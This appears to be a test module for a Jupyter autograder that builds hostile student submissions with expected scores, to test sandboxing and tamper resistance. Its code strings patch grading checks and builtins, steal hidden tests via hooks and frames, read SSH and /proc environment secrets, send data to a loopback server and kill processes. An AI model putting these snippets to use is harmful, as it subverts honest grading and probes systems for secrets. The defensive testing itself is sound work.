"""A class of crafted submissions for the fixture assignment, each with its expected outcome.

The fixture has three exercises: relu (1 point), mse (2) and softmax (2).
Every submission starts from the right answers (the released notebook with the
source's solutions filled in) and changes one thing, so that each expected
score says exactly what that one thing costs.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import nbformat

from autograder.samples import load_pair, solved_release, with_cell, write_submission

from .conftest import FIXTURE_ASSIGNMENT, FIXTURE_COURSE

REPO = Path(__file__).resolve().parents[2]  # this checkout, wherever it was cloned

SECRET_ENV = "AUTOGRADER_TEST_SECRET"
SECRET_VALUE = "s3cr3t-9f2c1e-never-in-a-sandbox"
# Lines of the fixture's hidden tests: they must never reach a student's feedback.
HIDDEN_SNIPPETS = ("np.where(_x > 0, _x, 0.0)", "_rng = np.random.default_rng(2)",
                   "_big = softmax(np.array([[1000.0, 1000.0, 999.0]]))")
WRONG_RELU = "def relu(x):\n    return np.asarray(x, dtype=float)  # forgot the max with 0"


@dataclass
class Crafted:
    """One student's submission and what grading it must give."""

    student: str
    score: float | None  # None: only the status and flags are asserted
    status: str = "graded"
    flags_include: tuple[str, ...] = ()
    flags_exclude: tuple[str, ...] = ()
    write: Callable[[Path], None] | None = None
    note: str = ""
    extra: dict = field(default_factory=dict)


def _pair() -> tuple[Any, Any]:
    return load_pair(FIXTURE_COURSE, FIXTURE_ASSIGNMENT)


def right_answers() -> Any:
    release, source = _pair()
    return solved_release(release, source)


def _cell_index(nb: Any, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _append(code: str) -> Callable[[str], str]:
    return lambda src: src + "\n" + code


def _prepend(code: str) -> Callable[[str], str]:
    return lambda src: code + "\n" + src


def crafted_batch(loopback_port: int) -> list[Crafted]:
    """The crafted class; ``loopback_port`` is a server the test runs outside the sandbox."""
    right = right_answers()
    release, _ = _pair()
    items: list[tuple[Crafted, Any]] = []

    def add(c: Crafted, nb: Any) -> None:
        items.append((c, nb))

    add(Crafted("right", 5.0, flags_exclude=("tampering", "tests_restored", "timeout")), right)
    add(Crafted("untouched", 0.0, flags_exclude=("tampering",)), copy.deepcopy(release))
    add(Crafted("partial", 3.0, flags_exclude=("tampering",), note="mse sums instead of averaging"),
        with_cell(right, "mse", lambda s: s.replace("np.mean", "np.sum")))

    # Runaway code: points earned by the other exercises still count.
    add(Crafted("infinite_loop", 3.0, flags_include=("timeout",)),
        with_cell(right, "mse", _prepend("while True:\n    pass")))
    add(Crafted("os_exit", 1.0, flags_include=("kernel_died",), flags_exclude=("output_truncated",)),
        with_cell(right, "mse", _prepend("import os\nos._exit(3)")))
    add(Crafted("sys_exit", 3.0, flags_exclude=("kernel_died",)),
        with_cell(right, "mse", _prepend("import sys\nsys.exit(0)")))
    add(Crafted("memory_hog", 3.0, flags_include=("memory_limit",)),
        with_cell(right, "mse", _prepend((
            "import time\n_hog = []\nwhile True:\n"
            "    _hog.append(bytearray(16 * 2**20))  # grows 16 MB at a time, never freed\n"
            "    time.sleep(0.01)"))))
    add(Crafted("spawner", 5.0, note="leaves processes behind; none may survive grading"),
        with_cell(right, "relu", _prepend((
            "import os, subprocess\n_kids = []\n"
            "os.system('setsid sleep 987 > /dev/null 2>&1 &')\n"
            "try:\n    for _ in range(2000):\n"
            "        _kids.append(subprocess.Popen(['sleep', '986']))\n"
            "except OSError as exc:\n    print('the process limit stopped me:', type(exc).__name__)"))))
    add(Crafted("huge_output", 5.0, flags_include=("output_truncated",)),
        with_cell(right, "relu", _prepend((
            "for _i in range(30000):\n    print('line', _i)\n"
            "print('x' * (40 * 2**20))  # one message larger than the grader accepts"))))

    # Tests, points and metadata come from the master.
    edited = with_cell(right, "relu", lambda s: WRONG_RELU)
    edited = with_cell(edited, "test-relu", lambda s: "check.close(1.0, 1.0, label='relu([-2, 0, 3])')")
    add(Crafted("edited_test", 4.0, flags_include=("tests_restored",)), edited)
    deleted = copy.deepcopy(right)
    del deleted.cells[_cell_index(deleted, "test-mse")]
    add(Crafted("deleted_test", 5.0, flags_include=("tests_restored",)), deleted)
    duplicated = copy.deepcopy(right)
    dup = copy.deepcopy(duplicated.cells[_cell_index(duplicated, "test-softmax")])
    dup.id = "dup-softmax"
    duplicated.cells.insert(_cell_index(duplicated, "softmax"), dup)  # runs before softmax exists
    add(Crafted("duplicated_test", 5.0, flags_include=("tests_restored",)), duplicated)
    inflated = copy.deepcopy(right)
    inflated.cells[_cell_index(inflated, "test-relu")].metadata.nbgrader["points"] = 100
    add(Crafted("inflated_points", 5.0, flags_include=("tests_restored",)), inflated)
    retyped = copy.deepcopy(right)
    cell = retyped.cells[_cell_index(retyped, "test-mse")]
    retyped.cells[_cell_index(retyped, "test-mse")] = nbformat.v4.new_markdown_cell(
        cell.source, metadata=cell.metadata, id=cell.id)
    add(Crafted("retyped_test", 5.0, flags_include=("tests_restored",)), retyped)

    # Tampering inside the kernel earns nothing (relu is wrong in each of these).
    wrong = with_cell(right, "relu", lambda s: WRONG_RELU)
    add(Crafted("patch_numpy", 4.0), with_cell(wrong, "relu", _append((
        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(b), bool)\n"
        "np.array_equal = lambda *a, **k: True"))))
    add(Crafted("patch_check", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "import dlbricks.check as _c\n"
        "for _name in [n for n in dir(_c) if n.startswith('_judge')]:\n"
        "    setattr(_c, _name, lambda *a, **k: _c.Verdict(True, ''))\n"
        "_c._allclose = lambda *a, **k: True"))))
    # The grader puts the real check.close back before each test: only relu (wrong) fails.
    add(Crafted("patch_check_noop", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "from dlbricks import check as _c\n_c.close = lambda *a, **k: None"))))
    # Forged records: the real check called with the expected value as the answer.
    add(Crafted("forge_records", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append(
        "from dlbricks import check as _c\n_real_close = _c.close\n"
        "_c.close = lambda actual, expected, **kw: _real_close(expected, expected, **kw)")))
    add(Crafted("patch_during_test", 4.0, flags_include=("tampering",)), with_cell(right, "relu", lambda s: (
        "def relu(x):\n"
        "    import dlbricks.check as c\n"
        "    real = c.close\n"
        "    c.close = lambda a, e, **kw: real(e, e, **kw)  # for the checks that follow\n"
        "    return np.asarray(x, dtype=float)")))
    add(Crafted("patch_assertion", 4.0), with_cell(wrong, "relu", _append((
        "import builtins\nclass _Quiet(Exception):\n    pass\n"
        "builtins.AssertionError = _Quiet\n"
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)"))))
    add(Crafted("patch_builtins", 4.0), with_cell(wrong, "relu", _append((
        "import builtins\n_real_abs = builtins.abs\nbuiltins.abs = lambda x: 0 * _real_abs(x)\n"
        "builtins.all = lambda *a: True\nbuiltins.any = lambda *a: False"))))
    add(Crafted("rigged_eq", 4.0), with_cell(right, "relu", lambda s: (
        "class _AlwaysEqual(np.ndarray):\n"
        "    def __eq__(self, other):\n        return np.ones(np.shape(other), dtype=bool)\n"
        "    def __sub__(self, other):\n        return np.zeros(np.shape(other))\n"
        "    def __rsub__(self, other):\n        return np.zeros(np.shape(other))\n"
        "    __ne__ = lambda self, other: np.zeros(np.shape(other), dtype=bool)\n"
        "def relu(x):\n    return np.zeros_like(np.asarray(x, dtype=float)).view(_AlwaysEqual)")))
    # The tests run in the judge process: a hook in the student's kernel never sees them.
    add(Crafted("rewrite_hook", 4.0), with_cell(wrong, "relu", _append((
        "def _drop_checks(lines):\n"
        "    return [ln for ln in lines if 'check.' not in ln] or ['pass\\n']\n"
        "get_ipython().input_transformers_cleanup.append(_drop_checks)"))))
    add(Crafted("event_hook", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append((
        "def _before(info):\n"
        "    import dlbricks.check as c\n"
        "    for n in ('close', 'probabilities', 'is_true', 'equal'):\n"
        "        setattr(c, n, lambda *a, **k: None)\n"
        "get_ipython().events.register('pre_run_cell', _before)"))))

    # Issue 10's attacks on the trusted judging. Each comes with a wrong relu (it earns 4.0 at most)
    # or with the right answers and a last cell that prints, hex-encoded after "LEAK:", everything
    # it captured: the tests run in the judge process, so nothing of them may show up there.
    real_partial = (
        "import functools\nfrom dlbricks import check as _c\n"
        "def _swap(real, actual, expected, **kw):\n    return real(expected, expected, **kw)\n")
    add(Crafted("partial_checks", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append(
        real_partial + "for _n in ('close', 'equal', 'probabilities', 'is_true'):\n"
        "    setattr(_c, _n, functools.partial(_swap, getattr(_c, _n)))")))
    add(Crafted("callable_checks", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append(
        "from dlbricks import check as _c\n"
        "class _Swap:\n    def __init__(self, real):\n        self.real = real\n"
        "    def __call__(self, actual, expected, **kw):\n        return self.real(expected, expected, **kw)\n"
        "_c.close = _Swap(_c.close)\n_c.equal = _Swap(_c.equal)")))
    add(Crafted("closure_checks", 4.0, flags_include=("tampering",)), with_cell(wrong, "relu", _append(
        "from dlbricks import check as _c\n"
        "def _wrap(real):\n    def close(actual, expected, **kw):\n        return real(expected, expected, **kw)\n"
        "    close.__module__ = real.__module__\n    close.__qualname__ = real.__qualname__\n    return close\n"
        "_c.close = _wrap(_c.close)")))
    add(Crafted("ast_transformer", 4.0), with_cell(wrong, "relu", _append(
        "import ast\n"
        "class _NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Expr(self, node):\n"
        "        return ast.Pass() if 'check' in ast.dump(node) else node\n"
        "get_ipython().ast_transformers.append(_NoAsserts())")))
    add(Crafted("trace_hooks", 4.0), with_cell(wrong, "relu", _append(
        "import sys\n_seen = []\n"
        "def _tracer(frame, event, arg):\n"
        "    if event == 'return' and frame.f_code.co_name == 'close':\n"
        "        frame.f_locals.get('actual')\n"
        "    _seen.append(frame.f_code.co_filename)\n    return None\n"
        "sys.settrace(_tracer)\nsys.setprofile(lambda *a: _seen.append(a[0].f_code.co_name))\n"
        "sys.addaudithook(lambda event, args: _seen.append(event) if event == 'exec' else None)")))
    # Every answer of the student's side becomes the visible test's expected list: relu's visible
    # check passes, its hidden one does not, and mse and softmax are lists, not functions.
    add(Crafted("patched_encoders", 0.0), with_cell(wrong, "relu", _append(
        "import json, builtins, base64\n"
        "json.dumps = lambda *a, **k: '{\"ok\": [0.0, 0.0, 3.0]}'\n"
        "json.loads = lambda *a, **k: {'op': 'get', 'name': 'relu'}\n"
        "np.asarray = lambda *a, **k: np.zeros(3)\nnp.ascontiguousarray = np.asarray\n"
        "base64.b64encode = lambda *a, **k: b''")))
    add(Crafted("patched_repr", 0.0), with_cell(wrong, "relu", _append(
        "import builtins\nbuiltins.repr = lambda *a: 'True'")))
    add(Crafted("shifty_object", 4.0), with_cell(right, "relu", lambda s: (
        "class _Shifty:\n"
        "    reads = 0\n"
        "    def __init__(self, x):\n        self.x = np.asarray(x, dtype=float)\n"
        "    def _next(self):\n        type(self).reads += 1\n"
        "        return np.maximum(self.x, 0.0) if type(self).reads % 2 == 0 else self.x\n"
        "    def __array__(self, dtype=None, copy=None):\n        return self._next()\n"
        "    def __len__(self):\n        return 10 ** 9 if type(self).reads % 2 else len(self.x)\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __float__(self):\n        raise RuntimeError('no')\n"
        "    def numpy(self):\n        return self._next()\n"
        "def relu(x):\n    return _Shifty(x)")))
    add(Crafted("hostile_values", 4.0, note="huge, deep, cyclic, NaN results: failed checks, no stall"),
        with_cell(right, "relu", lambda s: (
            "_calls = [0]\n"
            "def relu(x):\n"
            "    _calls[0] += 1\n"
            "    kind = _calls[0] % 4\n"
            "    if kind == 1:\n        return np.zeros(300_000_000, dtype=np.uint8)\n"
            "    if kind == 2:\n        v = []\n        for _ in range(10000):\n            v = [v]\n        return v\n"
            "    if kind == 3:\n        v = []\n        v.append(v)\n        return v\n"
            "    return np.full(np.shape(x), np.nan)")))
    leak_cell = nbformat.v4.new_code_cell((
        "import sys as _sys\n"
        "_found = [str(x) for x in globals().get('_captured', [])]\n"
        "_found += [str(v) for v in globals().get('In', [])] + [str(v) for v in globals().get('_ih', [])]\n"
        "print('LEAK:' + '\\n'.join(_found).encode().hex())"), id="leak-printer")

    def leaking(nb: Any, code: str) -> Any:
        out = with_cell(nb, "relu", _append(code))
        out.cells.append(copy.deepcopy(leak_cell))
        return out

    add(Crafted("leak_input_transformer", 5.0, extra={"leak": True}), leaking(right, (
        "_captured = []\n"
        "def _steal(lines):\n    _captured.append(''.join(lines))\n    return lines\n"
        "get_ipython().input_transformers_post.append(_steal)\n"
        "get_ipython().input_transformers_cleanup.append(_steal)")))
    add(Crafted("leak_events", 5.0, extra={"leak": True}), leaking(right, (
        "_captured = []\n"
        "get_ipython().events.register('pre_run_cell', lambda info: _captured.append(info.raw_cell))\n"
        "get_ipython().events.register('post_execute', lambda: _captured.append(str(get_ipython().user_ns.keys())))")))
    frames = with_cell(right, "relu", lambda s: (
        "import inspect, sys, gc\n_captured = []\n"
        "def relu(x):\n"
        "    for f in inspect.stack():\n"
        "        _captured.append(f.filename + ' ' + ''.join(f.code_context or []))\n"
        "        _captured.append(str({k: repr(v)[:300] for k, v in f.frame.f_locals.items()}))\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        _captured.append(str(frame.f_code.co_consts)[:3000])\n        frame = frame.f_back\n"
        "    for o in gc.get_objects():\n"
        "        if isinstance(o, str) and 'check.' in o:\n            _captured.append(o[:3000])\n"
        "    return np.maximum(x, 0.0)"))
    frames.cells.append(copy.deepcopy(leak_cell))
    add(Crafted("leak_frames", 5.0, extra={"leak": True}), frames)
    add(Crafted("leak_files_and_connection", 5.0, extra={"leak": True}), leaking(right, (
        "import glob, json, os, threading, time\n_captured = []\n"
        "def _files():\n"
        "    for top in ['/home', '/tmp', '/opt', '/proc']:\n"
        "        for path in glob.glob(top + '/**', recursive=True)[:20000]:\n"
        "            if any(p in path for p in ('/proc/sys', '/proc/bus', 'kcore')):\n                continue\n"
        "            try:\n"
        "                if os.path.isfile(path) and os.path.getsize(path) < 10**6:\n"
        "                    text = open(path, 'rb').read().decode('utf-8', 'replace')\n"
        "                    if 'check.' in text:\n                        _captured.append(path + ': ' + text[:5000])\n"
        "            except OSError:\n                pass\n"
        "def _listen():\n"
        "    import zmq\n    from jupyter_client.session import Session\n"
        "    info = json.load(open(get_ipython().kernel.config['IPKernelApp']['connection_file']\n"
        "                          if 'connection_file' in get_ipython().kernel.config.get('IPKernelApp', {})\n"
        "                          else glob.glob(os.path.expanduser('~/.kernel/*.json'))[0]))\n"
        "    session = Session(key=info['key'].encode(), signature_scheme=info['signature_scheme'])\n"
        "    sock = zmq.Context.instance().socket(zmq.SUB)\n    sock.setsockopt(zmq.SUBSCRIBE, b'')\n"
        "    sock.connect(f\"tcp://127.0.0.1:{info['iopub_port']}\")\n"
        "    while True:\n"
        "        _, parts = session.feed_identities(sock.recv_multipart())\n"
        "        _captured.append(str(session.deserialize(parts)['content'])[:3000])\n"
        "try:\n    _files()\nexcept Exception as exc:\n    _captured.append('files: ' + repr(exc))\n"
        "threading.Thread(target=_listen, daemon=True).start()")))

    # Snooping: nothing secret is visible, and nothing leaks into the feedback.
    snoop = (
        "import glob, os, linecache\n"
        f"for _p in [{str(REPO / 'source')!r}, {str(REPO / 'tests')!r}, '/root/.ssh', '/root']:\n"
        "    print(_p, 'VISIBLE' if os.path.exists(_p) and os.listdir(_p) else 'hidden')\n"
        f"for _top in [{str(REPO.parent)!r}, '/work', '/home', '/tmp', '/root', '/opt', '/etc']:\n"
        "    print('gradebooks:', glob.glob(_top + '/**/gradebook.db', recursive=True))\n"
        "    print('notebooks:', glob.glob(_top + '/**/*.ipynb', recursive=True))\n"
        "print('environment:', dict(os.environ))\n"
        "for _pid in os.listdir('/proc'):\n"
        "    if _pid.isdigit():\n"
        "        try:\n            print('proc', _pid, open(f'/proc/{_pid}/environ', 'rb').read()[:2000])\n"
        "        except OSError as exc:\n            print('proc', _pid, 'closed:', type(exc).__name__)\n"
    )
    snooper = with_cell(right, "relu", _append(snoop))
    leak = nbformat.v4.new_code_cell(
        "import linecache\nprint('CACHE', [''.join(v[2]) for v in linecache.cache.values()])\n"
        "print('HISTORY', In, _ih)", id="leak")
    snooper.cells.append(leak)
    add(Crafted("snooper", 5.0, flags_exclude=("timeout",), note="tries to read source/, the gradebook, secrets and hidden tests"), snooper)
    add(Crafted("network", 5.0, note="tries the loopback server the test runs outside the sandbox"),
        with_cell(right, "relu", _append((
            "import socket\n"
            "for _host in ['127.0.0.1', 'localhost', '10.0.2.2', '172.17.0.1']:\n"
            "    try:\n"
            f"        _s = socket.create_connection((_host, {loopback_port}), timeout=2)\n"
            "        _s.sendall(b'STOLEN hidden tests')\n"
            "        print('CONNECTED to', _host)\n"
            "    except OSError as exc:\n"
            "        print('no network to', _host, type(exc).__name__)"))))
    add(Crafted("killer", 1.0, flags_include=("sandbox_crashed",), note="signals every process it can see"),
        with_cell(right, "mse", _prepend((
            "import os, signal\n"
            "for _pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    if _pid != os.getpid():\n"
            "        for _sig in (signal.SIGTERM, signal.SIGKILL):\n"
            "            try:\n                os.kill(_pid, _sig)\n            except OSError:\n                pass\n"
            "os.kill(-1, signal.SIGKILL)"))))
    add(Crafted("absl_stderr", 5.0, note="TensorFlow/absl-style lines on stderr during the tests"),
        with_cell(right, "relu", lambda s: (
            "import sys\n"
            "def relu(x):\n"
            "    print('W0000 00:00:1700000000.000000 4242 cpu_feature_guard.cc:145] This TensorFlow binary '\n"
            "          'is optimized to use available CPU instructions.', file=sys.stderr)\n"
            "    print('WARNING:absl:Compiled the loaded model, but the compiled metrics have yet to be built.',\n"
            "          file=sys.stderr)\n"
            "    return np.maximum(x, 0.0)")))
    add(Crafted("shadowing", 5.0, note="a numpy.py and dlbricks/ beside the notebook are ignored",
                extra={"shadow_files": True}), right)

    out = []
    for crafted, nb in items:
        nb_copy = copy.deepcopy(nb)

        def write(root: Path, nb_copy: Any = nb_copy, student: str = crafted.student,
                  shadow: bool = bool(crafted.extra.get("shadow_files"))) -> None:
            path = write_submission(root, student, FIXTURE_ASSIGNMENT, FIXTURE_ASSIGNMENT, nb_copy)
            if shadow:
                (path.parent / "numpy.py").write_text("raise SystemExit('shadowed numpy imported')\n")
                (path.parent / "dlbricks").mkdir()
                (path.parent / "dlbricks" / "__init__.py").write_text("raise SystemExit('shadowed dlbricks')\n")
        crafted.write = write
        out.append(crafted)

    # Files that are not gradable notebooks.
    def raw(student: str, content: bytes | None) -> Callable[[Path], None]:
        def write(root: Path) -> None:
            folder = root / student / FIXTURE_ASSIGNMENT
            folder.mkdir(parents=True, exist_ok=True)
            if content is not None:
                (folder / f"{FIXTURE_ASSIGNMENT}.ipynb").write_bytes(content)
        return write

    out.append(Crafted("invalid_json", 0.0, status="invalid",
                       write=raw("invalid_json", b'{"cells": [ {"cell_type": "code", "source": "x = ')))
    out.append(Crafted("empty_file", 0.0, status="invalid", write=raw("empty_file", b"")))
    out.append(Crafted("not_a_notebook", 0.0, status="invalid", write=raw("not_a_notebook", b'{"hello": "world"}')))
    out.append(Crafted("missing_notebook", 0.0, status="missing", write=raw("missing_notebook", None)))
    return out
